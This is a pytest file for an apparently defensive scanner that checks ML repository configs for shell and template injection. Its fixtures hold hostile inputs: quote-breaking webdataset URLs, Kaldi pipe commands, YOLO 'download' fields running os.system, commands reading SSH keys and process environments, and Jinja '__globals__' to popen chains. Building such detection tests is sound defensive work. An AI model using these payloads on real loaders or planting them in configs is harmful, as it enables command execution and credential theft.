"""Round 23 (outside tester 22a F1, F6, F14, F17, F23, F24): data strings a loader hands to a
shell, `exec` or a template are judged by what the loader does with any value in that field,
not by a prefix: webdataset < 1.0 puts every http/gs/ais URL in `'…'` of a shell command,
kaldiio runs any rxfilename ending in `|`, YOLO `exec`s a data YAML's `download:` that is no
`http….zip` URL, a program's path argument is judged by where it leads, and a Jinja subscript
keyed by the render data (the fork's own data set) is never stepped on. The real loaders run
where they are installed (FORKVET_LOADER_PATH adds them; they skip otherwise)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from forkvet.report import Risk
from tests.hostile.test_round22_templates import _child, _needs, _risks, _shell


def _paths(found: list[Risk]) -> list[str]:
    assert all(r.kind in ("shell-in-data", "code-in-data") for r in found), found
    assert all(r.severity == "error" for r in found), found
    return sorted({r.path for r in found})


# -- F1: webdataset 0.2's `curl -f -s -L '<url>'` -------------------------------------------------
_QUOTE_URLS = [
    "http://127.0.0.1:9/shard-{00000..00001}.tar';touch /tmp/m;echo '",
    "gs://bucket/a.tar' ; id ; '",
    "HTTPS://h/a.tar'$(id)'",
    "s3://b/x.tar::ais://b/y.tar'|sh|'",
]


@pytest.mark.parametrize("url", _QUOTE_URLS)
def test_a_quote_in_a_url_webdataset_puts_in_quotes_is_an_error(
    make_repo: Callable[..., Path], url: str
) -> None:
    files = {
        "configs/train.yaml": f"train_data: {json.dumps(url)}\n",
        "configs/train.json": json.dumps({"urls": [url]}),
        "lists/train.txt": url + "\n",
    }
    assert _paths(_shell(make_repo, files)) == sorted(files)


def test_a_url_in_code_is_the_code_s(make_repo: Callable[..., Path]) -> None:
    # vetted as code, not as data; a URL in prose or code with an apostrophe is no finding
    code = 'import webdataset as wds\nds = wds.WebDataset("https://h/it\'s.tar")\n'
    files = {"train.py": code, "notes.csv": "https://h/a,it's\n", "run.sh": "curl 'https://h/'\n"}
    assert _shell(make_repo, files) == []


def test_ordinary_remote_urls_pass(make_repo: Callable[..., Path]) -> None:
    files = {
        "configs/train.yaml": (
            "train: https://h/shards/{00000..00099}.tar\n"
            "val: 'gs://bucket/val-{000..009}.tar::http://h/v.tar?X-Sig=a&b=c'\n"
            'text: "it\'s a model"\n'
        ),
        "lists/train.txt": "https://h/a.tar\nhttp://h/b.tar\n",
        "train.py": "url = 'https://h/a.tar'\nother = \"it's\"\nsite = 'http://x'\n",
    }
    assert _shell(make_repo, files) == []


def test_webdataset_0_2_runs_a_quoted_url_forkvet_flags(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    _needs(tmp_path, "webdataset.gopen")
    if not _child(tmp_path, "from webdataset.gopen import gopen_schemes as s\nassert 'http' in s"):
        pytest.skip("webdataset >= 1.0: URLs are argument lists")
    marker = tmp_path / "wds_http_marker"
    url = f"http://127.0.0.1:9/a.tar';touch {marker};echo '"
    _child(
        tmp_path,
        f"from webdataset.gopen import gopen\ntry:\n  gopen({url!r}).read()\nexcept OSError: pass",
    )
    assert marker.exists()
    assert _shell(make_repo, {"configs/data.yaml": f"urls: {json.dumps(url)}\n"})


# -- F14: a bare Kaldi rxfilename ------------------------------------------------------------------
def test_a_config_string_ending_in_a_pipe_is_a_command(make_repo: Callable[..., Path]) -> None:
    files = {
        "conf.yaml": 'feats: "touch /tmp/m; cat /dev/null |"\n',
        "conf.json": json.dumps({"feats": "bash -c id|"}),
        "conf.toml": 'feats = "*/* |"\n',
    }
    assert _paths(_shell(make_repo, files)) == sorted(files)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("conf.yaml", "feats: touch /tmp/m; sox a.wav -t wav - |\n"),
        ("conf.yaml", "a: |\n  x\nfeats: touch /tmp/m; cat -|  # c\n"),
        ("conf.yaml", 'feats: "touch /tmp/m; cat \\x7c"\n'),
        ("conf.json", '{"feats": "touch /tmp/m; cat \\u007c"}'),
        ("conf.toml", 'feats = "touch /tmp/m; cat \\u007C"\n'),
        ("conf.yaml", 'train: a\nval: b\n"downl\\x6fad": import os\n'),
        ("conf.yaml", 'urls: "https://h/a.tar\\u0027;id;\\u0027"\n'),
    ],
)
def test_every_spelling_of_a_sink_string_is_parsed(
    make_repo: Callable[..., Path], path: str, text: str
) -> None:
    assert _paths(_shell(make_repo, {path: text})) == [path]


def test_pipes_kaldi_reads_and_tokenizer_strings_pass(make_repo: Callable[..., Path]) -> None:
    vocab = {"Ġ$$ |": 1, "|||EMAIL_ADDRESS|||": 2, "Ġ\\ |": 3, "}|": 4, "||": 5, "##|": 6}
    files = {
        "conf.yaml": "feats: 'gunzip -c /corpus/f.ark.gz |'\nwav: 'sox /corpus/a.wav -t wav - |'\n",
        "tokenizer.json": json.dumps({"model": {"vocab": vocab, "merges": ["Ġ |", "| |"]}}),
    }
    assert _shell(make_repo, files) == []


def test_kaldiio_runs_a_bare_rxfilename_forkvet_flags(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    _needs(tmp_path, "kaldiio")
    marker = tmp_path / "kaldi_bare_marker"
    feats = f"touch {marker}; cat /dev/null |"
    _child(tmp_path, f"import kaldiio\ntry:\n  kaldiio.load_mat({feats!r})\nexcept Exception: pass")
    assert marker.exists()
    assert _shell(make_repo, {"conf.yaml": f"feats: {json.dumps(feats)}\n"})


# -- F17: YOLO's data YAML `download` ------------------------------------------------------------
_YOLO = "path: ../datasets/x\ntrain: images/train\nval: images/val\nnames: {0: a}\n"


@pytest.mark.parametrize(
    "download",
    [
        "download: bash -c 'touch /tmp/m'\n",
        'download: import os; os.system("touch /tmp/m")\n',
        "download: |\n  import os\n  os.system('id')\n",
        "download: https://h/x.tar\n",
        "download: bash ./scripts/get_coco.sh\n",
    ],
)
def test_a_yolo_download_that_is_no_zip_url_is_code(
    make_repo: Callable[..., Path], download: str
) -> None:
    found = _shell(make_repo, {"data/custom.yaml": _YOLO + download})
    assert _paths(found) == ["data/custom.yaml"]


def test_a_yolo_zip_url_and_other_download_keys_pass(make_repo: Callable[..., Path]) -> None:
    files = {
        "data/coco128.yaml": _YOLO + "download: https://h/releases/coco128.zip\n",
        "conf/app.yaml": "download: import os\nretries: 3\n",  # no train/val: no YOLO data
    }
    assert _shell(make_repo, files) == []


# -- F23: program options and paths ------------------------------------------------------------
@pytest.mark.parametrize(
    "url",
    [
        "pipe:flac -c -d http://h/a.flac -o /root/.bashrc",
        "pipe:curl -s file:///root/.ssh/id_rsa",
        "pipe:curl -s FILE://localhost/home/u/.netrc",
        "pipe:cat -- /root/.ssh/id_rsa",
        "pipe:cat //root/.ssh/id_rsa",
        "pipe:cat /corpus/../root/x",
        "pipe:cat /proc/self/environ",
        "pipe:sox -t wav /home/runner/.bashrc -t wav -",
        "pipe:ffmpeg -report -i http://h/a.flac -f wav -",
        "pipe:curl -s file:///r%6fot/x",
    ],
)
def test_a_write_option_or_a_private_path_is_an_error(
    make_repo: Callable[..., Path], url: str
) -> None:
    assert _paths(_shell(make_repo, {"u.txt": url + "\n"})) == ["u.txt"]


def test_corpus_paths_pass(make_repo: Callable[..., Path]) -> None:
    scp = "utt1 flac -c -d -s /corpus/c.flac |\nutt2 sox /data/a.wav -t wav - |\n"
    assert _shell(make_repo, {"data/wav.scp": scp}) == []


# -- F6: a template keyed by the fork's own data ------------------------------------------------
_TASK = (
    "dataset_path: json\ndataset_kwargs: {data_files: {test: tasks/t/data/test.jsonl}}\n"
    'doc_to_text: "{{ %s }}Question: {{ question }}"\n'
)


@pytest.mark.parametrize(
    "expr",
    [
        "lipsum[k1][k2][k3](cmd)[k4]()",
        "lipsum[k1]",
        "question[k1][k2]",
        "question[k1](cmd)",
        "(question[k1] or 1)(cmd)",
        "question[k1]|attr('x')",
        "cycler[k1] if 1 else 2",
    ],
)
def test_a_chain_keyed_by_data_is_an_error(make_repo: Callable[..., Path], expr: str) -> None:
    data = {"question": "2+2?", "k1": "__globals__", "k2": "os", "k3": "popen", "cmd": "id"}
    files = {"tasks/t/t.yaml": _TASK % expr, "tasks/t/data/test.jsonl": json.dumps(data) + "\n"}
    assert [r.path for r in _risks(make_repo, files)] == ["tasks/t/t.yaml"]


def test_a_key_from_data_rendered_or_iterated_passes(make_repo: Callable[..., Path]) -> None:
    task = (
        "doc_to_target: \"{{ ['True', 'False'][label] }} {{ {'a': 'b'}[question] }}\"\n"
        'doc_to_text: "{{ choices[label] }} {{ choices[label]|trim }} '
        "{% if choices[label] == 'a' %}x{% endif %}{{ doc['a'][gold] ~ '.' }}"
        '{% for m in by_id[id] %}{{ m }}{% endfor %}"\n'
        'doc_to_choice: "{% set t = text[:loc] %}{{ [t + options[0], t + options[1]] }}"\n'
    )
    assert _risks(make_repo, {"tasks/a.yaml": task}) == []


def test_lm_eval_s_render_runs_the_chain_forkvet_flags(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    marker = tmp_path / "lm_eval_marker"
    doc = {"k1": "__globals__", "k2": "os", "k3": "popen", "k4": "read", "cmd": f"touch {marker}"}
    template = "{{ lipsum[k1][k2][k3](cmd)[k4]() }}"
    # lm_eval.utils.apply_template: Environment(StrictUndefined).from_string(t).render(**doc)
    _child(
        tmp_path,
        "import jinja2\njinja2.Environment(loader=jinja2.BaseLoader(), undefined=jinja2."
        f"StrictUndefined).from_string({template!r}).render(**{doc!r})",
    )
    assert marker.exists()
    assert _risks(make_repo, {"tasks/t.yaml": _TASK % template[3:-3]})


# -- F24: torch.hub without a ref ----------------------------------------------------------------
def test_torch_hub_without_a_ref_names_the_branch_it_loads(vet_repo: Callable[..., object]) -> None:
    code = (
        "import torch\nm = torch.hub.load('o/r', 'model')\n"
        "n = torch.hub.load('o/r:v1.0', 'model')\n"
        "k = torch.hub.load('../companion', 'm', source='local')\n"
    )
    report = vet_repo({"README.md": "# M\n", "demo.py": code})
    found = {r.line: r.message for r in report.risks if r.kind == "remote-code"}  # type: ignore[attr-defined]
    assert "branch `main` (else `master`)" in found[2] and "--ref main" in found[2], found
    assert "`main`" not in found[3] and "`main`" not in found[4], found
